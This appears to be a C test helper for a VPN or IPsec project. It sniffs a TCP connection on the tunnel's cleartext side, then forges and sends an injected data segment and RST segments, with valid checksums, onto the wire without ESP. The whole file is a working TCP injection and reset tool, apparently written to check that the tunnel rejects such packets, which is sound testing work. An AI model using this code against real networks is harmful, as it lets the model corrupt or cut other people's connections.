// SPDX-License-Identifier: Apache-2.0 OR MIT
// An attacker who knows all of a TCP connection, and is on the wire: watches the clear side of a
// tunnel until SIGUSR1 and until the connection rests. It then sends, without ESP, a segment with
// made-up data at the very next sequence number, a RST behind that data, and a RST at the very next
// number: TCP obeys a RST only at the number that it waits for, and the data may have moved that.
//     inject CLEAR WIRE MAC PORT
// CLEAR is the device where packets to PORT are seen in the clear, WIRE that of the network, MAC
// the receiver's. Prints how many segments it saw.
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define REST_MS 1500
#define RESTS 200
#define RST 0x04
#define PSH_ACK 0x18
#define MADE_UP "made up"

static volatile sig_atomic_t may_begin;

static void begin(int signal) {
    (void)signal;
    may_begin = 1;
}

static unsigned sum(const unsigned char *bytes, size_t length, unsigned start) {
    for (size_t at = 0; at < length; at++)
        start += at % 2 ? bytes[at] : bytes[at] << 8u;
    return start;
}

static void put_sum(unsigned char *at, unsigned sum) {
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    at[0] = (unsigned char)(~sum >> 8);
    at[1] = (unsigned char)~sum;
}

static int device(const char *name, int protocol, struct sockaddr_ll *place) {
    *place = (struct sockaddr_ll){.sll_family = AF_PACKET,
                                  .sll_protocol = htons((unsigned short)protocol),
                                  .sll_ifindex = (int)if_nametoindex(name)};
    int opened = socket(AF_PACKET, SOCK_DGRAM, htons((unsigned short)protocol));
    if (opened < 0 || place->sll_ifindex == 0 || bind(opened, (void *)place, sizeof *place) < 0) {
        perror(name);
        exit(1);
    }
    return opened;
}

// The headers of the last segment to the port, whose sequence number is the next one. Says how
// many segments there were, or 0 if the time to begin does not come.
static unsigned watch(int reader, int port, unsigned char *headers) {
    static unsigned char packet[70000];
    struct pollfd ready = {reader, POLLIN, 0};
    unsigned seen = 0;
    for (int rests = 0; rests < RESTS;) {
        int readable = poll(&ready, 1, REST_MS);
        if (readable == 0) {
            if (may_begin && seen)
                return seen;
            rests++;
        }
        if (readable <= 0)
            continue;
        ssize_t length = recv(reader, packet, sizeof packet, 0);
        if (length < 40 || packet[0] != 0x45 || packet[9] != IPPROTO_TCP ||
            (packet[22] << 8 | packet[23]) != port)
            continue;
        unsigned payload = (unsigned)(packet[2] << 8 | packet[3]) - 20u - (packet[32] >> 4) * 4u;
        unsigned sequence;
        memcpy(&sequence, packet + 24, 4);
        sequence = htonl(ntohl(sequence) + payload);
        memcpy(headers, packet, 40);
        memcpy(headers + 24, &sequence, 4);
        seen++;
    }
    return 0;
}

static void forge(int writer, const struct sockaddr_ll *to, const unsigned char *headers, int flags, const char *data) {
    unsigned char packet[256];
    size_t length = 40 + strlen(data);
    memcpy(packet, headers, 40);
    memcpy(packet + 40, data, strlen(data));
    packet[2] = (unsigned char)(length >> 8);
    packet[3] = (unsigned char)length;
    packet[32] = 5 << 4;
    packet[33] = (unsigned char)flags;
    memset(packet + 10, 0, 2);
    memset(packet + 36, 0, 2);
    put_sum(packet + 10, sum(packet, 20, 0));
    put_sum(packet + 36, sum(packet + 20, length - 20, sum(packet + 12, 8, IPPROTO_TCP + (unsigned)length - 20)));
    if (sendto(writer, packet, length, 0, (const void *)to, sizeof *to) < 0)
        perror("inject");
}

int main(int count, char **arguments) {
    if (count != 5)
        return fprintf(stderr, "usage: inject CLEAR WIRE MAC PORT\n"), 2;
    struct sockaddr_ll from, to;
    int reader = device(arguments[1], ETH_P_ALL, &from), writer = device(arguments[2], ETH_P_IP, &to);
    unsigned mac[6];
    if (sscanf(arguments[3], "%x:%x:%x:%x:%x:%x", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) != 6)
        return fprintf(stderr, "inject: no MAC\n"), 2;
    to.sll_halen = 6;
    for (int at = 0; at < 6; at++)
        to.sll_addr[at] = (unsigned char)mac[at];
    struct sigaction action = {.sa_handler = begin};
    sigaction(SIGUSR1, &action, NULL);
    fprintf(stderr, "ready\n");
    unsigned char headers[40];
    unsigned seen = watch(reader, atoi(arguments[4]), headers);
    if (seen == 0)
        return fprintf(stderr, "inject: no segment, or no signal\n"), 1;
    unsigned next, behind;
    memcpy(&next, headers + 24, 4);
    behind = htonl(ntohl(next) + (unsigned)strlen(MADE_UP));
    forge(writer, &to, headers, PSH_ACK, MADE_UP);
    memcpy(headers + 24, &behind, 4);
    forge(writer, &to, headers, RST, "");
    memcpy(headers + 24, &next, 4);
    forge(writer, &to, headers, RST, "");
    printf("%u segments seen\n", seen);
    return 0;
}
